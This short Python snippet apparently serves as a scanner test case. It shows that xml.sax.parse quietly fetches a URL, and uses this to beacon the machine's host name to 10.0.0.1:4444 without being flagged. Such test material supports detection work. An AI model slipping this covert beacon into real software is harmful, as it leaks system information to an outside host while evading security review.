# xml.sax.parse is documented as not reported ("a parser given a URL fetches
# it; a constant URL and a file name are not told apart"). Given an http URL it
# opens a TCP connection to 10.0.0.1:4444 and sends the host name in the path.
import platform
import xml.sax
import xml.sax.handler

url = "http://10.0.0.1:4444/beacon?host=" + platform.node()
try:
    xml.sax.parse(url, xml.sax.handler.ContentHandler())
except Exception as exc:  # the reply is not XML, or nothing answers
    print("beacon sent or failed:", type(exc).__name__)
